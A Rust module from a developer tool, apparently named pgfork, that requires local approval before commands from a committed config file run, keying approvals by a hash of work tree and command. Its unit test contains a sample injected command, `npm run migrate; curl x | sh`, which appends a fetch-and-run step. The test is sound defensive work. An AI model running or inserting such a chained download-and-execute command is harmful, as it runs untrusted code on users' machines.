//! Commands from a committed file run only after a local `pgfork allow`, as with
//! direnv. `.pgfork.toml` is written by whoever can push a branch; without this step,
//! checking out their branch would run their `after_create` command on your machine.
//! What you allowed is stored outside the repository (`allowed` in the store, 0600) as
//! a hash of the work tree and the exact command, so a changed command asks again.

use anyhow::{Context, Result};
use sha2::{Digest, Sha256};
use std::path::{Path, PathBuf};

fn allowed_file() -> PathBuf {
    crate::connect::home().join("allowed")
}

/// The key of one (work tree, command) pair.
pub fn key(root: &Path, command: &str) -> String {
    let mut h = Sha256::new();
    h.update(root.as_os_str().as_encoded_bytes());
    h.update([0]);
    h.update(command.as_bytes());
    h.finalize().iter().map(|b| format!("{b:02x}")).collect()
}

pub fn is_allowed(root: &Path, command: &str) -> bool {
    let k = key(root, command);
    std::fs::read_to_string(allowed_file())
        .map(|text| {
            text.lines()
                .any(|l| l.split_whitespace().next() == Some(k.as_str()))
        })
        .unwrap_or(false)
}

/// Records `command` as allowed in the work tree `root`.
pub fn allow(root: &Path, command: &str) -> Result<()> {
    use std::io::Write;
    use std::os::unix::fs::OpenOptionsExt;
    let path = allowed_file();
    if let Some(dir) = path.parent() {
        std::fs::create_dir_all(dir)
            .with_context(|| format!("could not create {}", dir.display()))?;
    }
    let mut f = std::fs::OpenOptions::new()
        .create(true)
        .append(true)
        .mode(0o600)
        .open(&path)
        .with_context(|| format!("could not write {}", path.display()))?;
    writeln!(f, "{} {}", key(root, command), root.display())
        .with_context(|| format!("could not write {}", path.display()))?;
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_changed_command_or_another_tree_is_another_key() {
        let a = key(Path::new("/src/shop"), "npm run migrate");
        assert_eq!(a, key(Path::new("/src/shop"), "npm run migrate"));
        assert_ne!(
            a,
            key(Path::new("/src/shop"), "npm run migrate; curl x | sh")
        );
        assert_ne!(a, key(Path::new("/src/other"), "npm run migrate"));
        assert_eq!(a.len(), 64);
    }
}
